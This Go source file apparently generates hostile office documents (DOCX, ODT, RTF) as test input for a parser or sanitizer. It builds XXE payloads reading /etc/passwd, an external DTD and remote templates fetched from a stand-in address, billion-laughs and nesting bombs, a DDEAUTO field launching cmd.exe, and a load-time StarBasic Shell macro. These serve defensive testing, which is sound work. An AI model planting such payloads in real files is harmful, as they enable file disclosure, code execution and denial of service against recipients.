package hostile

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

const (
	office  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	packing = "http://schemas.openxmlformats.org/package/2006"
	wordML  = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
)

// laughs is a text of ten letters that becomes ten thousand million.
func laughs() string {
	var out strings.Builder
	out.WriteString(`<!DOCTYPE x [<!ENTITY l0 "ha ha ha ha ">`)
	for i := range 10 {
		fmt.Fprintf(&out, `<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	return out.String() + "]>"
}

// Outside is where files that fetch are told to fetch: an address that nobody has (RFC 5737).
const Outside = "http://192.0.2.1/mouchard"

// ooxml is a file of an office program with macros, with relations to elsewhere, or with what its XML reader may follow.
func ooxml(r *rand.Rand) (string, []byte, bool) {
	document, before := "<w:p><w:r><w:t>"+word(r)+"</w:t></w:r></w:p>", ""
	var relations string
	var more []part
	main, name := "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "lettre.docx"
	relation := func(kind, target string) {
		relations += `<Relationship Id="x" Type="` + office + `/` + kind + `" Target="` + target + `" TargetMode="External"/>`
	}
	switch r.IntN(9) {
	case 0:
		main = "application/vnd.ms-word.document.macroEnabled.main+xml"
		more = []part{{"word/vbaProject.bin", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1Sub AutoOpen()"}}
	case 1:
		relation("attachedTemplate", Outside+".dotm")
	case 2:
		relation("image", Outside+".png")
		document += `<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="` + office + `" r:link="x"/></w:drawing></w:r></w:p>`
	case 3:
		relation("oleObject", "file:///etc/passwd")
	case 4:
		before, document = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, "<w:p><w:r><w:t>&e;</w:t></w:r></w:p>"
	case 5:
		before = `<!DOCTYPE x [<!ENTITY % e SYSTEM "` + Outside + `.dtd"> %e;]>`
	case 6:
		before, document = laughs(), "<w:p><w:r><w:t>&l10;</w:t></w:r></w:p>"
	case 7:
		document += `<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple><w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "/></w:p>`
	default: // tables in tables
		document = strings.Repeat("<w:tbl><w:tr><w:tc>", 800) + document + strings.Repeat("</w:tc></w:tr></w:tbl>", 800)
	}
	parts := []part{
		{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="` + packing + `/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="` + main + `"/></Types>`},
		{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="` + packing + `/relationships"><Relationship Id="r1" Type="` + office + `/officeDocument" Target="word/document.xml"/></Relationships>`},
		{"word/document.xml", `<?xml version="1.0"?>` + before + `<w:document xmlns:w="` + wordML + `"><w:body>` + document + `</w:body></w:document>`},
		{"word/_rels/document.xml.rels", `<?xml version="1.0"?><Relationships xmlns="` + packing + `/relationships">` + relations + `</Relationships>`},
	}
	return name, pack(append(parts, more...)...), false
}

const spaces = `xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" ` +
	`xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" ` +
	`xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:dom="http://www.w3.org/2001/xml-events"`

// odf is a file of an office program with scripts that run when it opens, or links that are followed then.
func odf(r *rand.Rand) (string, []byte, bool) {
	body, scripts, before := "<text:p>"+word(r)+"</text:p>", "", ""
	var more []part
	switch r.IntN(7) {
	case 0:
		scripts = `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>`
		more = []part{
			{"Basic/script-lc.xml", `<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`},
			{"Basic/Standard/script-lb.xml", `<?xml version="1.0"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>`},
			{"Basic/Standard/Module1.xml", `<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main&#10;Shell("touch /tmp/pwn")&#10;End Sub</script:module>`},
		}
	case 1:
		body += `<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd" xlink:type="simple"/></text:section>`
	case 2:
		body += `<text:p><draw:frame><draw:image xlink:href="` + Outside + `.png" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame></text:p>`
	case 3:
		body += `<text:p><draw:frame><draw:object-ole xlink:href="file:///etc/passwd"/></draw:frame><draw:frame><draw:plugin xlink:href="` + Outside + `" draw:mime-type="text/html"/></draw:frame></text:p>`
	case 4:
		before, body = laughs(), "<text:p>&l10;</text:p>"
	case 5:
		before, body = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, "<text:p>&e;</text:p>"
	default: // a row that says that it comes a thousand million times
		body = `<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`
	}
	mime := "application/vnd.oasis.opendocument.text"
	parts := []part{
		{"content.xml", `<?xml version="1.0"?>` + before + `<office:document-content ` + spaces + ` office:version="1.3">` + scripts + `<office:body><office:text>` + body + `</office:text></office:body></office:document-content>`},
		{"META-INF/manifest.xml", `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="` + mime + `"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`},
	}
	return "lettre.odt", stored(mime, append(parts, more...)), false
}

func rtf(r *rand.Rand) (string, []byte, bool) {
	w := word(r)
	content := one(r,
		`{\rtf1\ansi {\field{\*\fldinst INCLUDETEXT "/etc/passwd"}{\fldrslt x}} `+w+`}`,
		`{\rtf1\ansi {\field{\*\fldinst INCLUDEPICTURE "`+Outside+`.png" \\d}{\fldrslt x}} `+w+`}`,
		`{\rtf1\ansi {\*\template `+Outside+`.dotm}`+w+`}`,
		`{\rtf1\ansi {\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 0105000002000000}} `+w+`}`,
		`{\rtf1`+strings.Repeat("{", 20_000)+w+strings.Repeat("}", 20_000)+`}`,
		`{\rtf1\ansi{\pict\pngblip\picw65535\pich65535 89504e47}`+strings.Repeat(`\par `, 20_000)+w+`}`,
		`{\rtf1\ansi{\pict\bin2147483647 `+w+`}}`,
	)
	return "lettre.rtf", []byte(content), false
}
